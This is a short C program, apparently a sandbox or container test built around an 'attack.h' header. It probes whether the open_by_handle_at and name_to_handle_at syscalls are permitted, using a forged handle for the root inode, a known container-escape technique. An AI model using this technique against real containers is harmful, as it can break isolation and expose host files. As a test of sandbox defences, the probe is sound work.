#include "attack.h"
#include <sys/vfs.h>

int main(void)
{
        struct {
                struct file_handle head;
                unsigned char bytes[128];
        } handle = { .head.handle_bytes = 8, .head.handle_type = 1 };
        uint32_t inode = 2;
        int mount_id, root = open("/usr", O_RDONLY | O_DIRECTORY);

        memcpy(handle.head.f_handle, &inode, sizeof(inode));
        TRY("open_by_handle_at", syscall(SYS_open_by_handle_at, root, &handle, O_RDONLY));
        handle.head.handle_bytes = 128;
        TRY("name_to_handle_at", syscall(SYS_name_to_handle_at, AT_FDCWD, "/usr", &handle, &mount_id, 0));
        return 0;
}
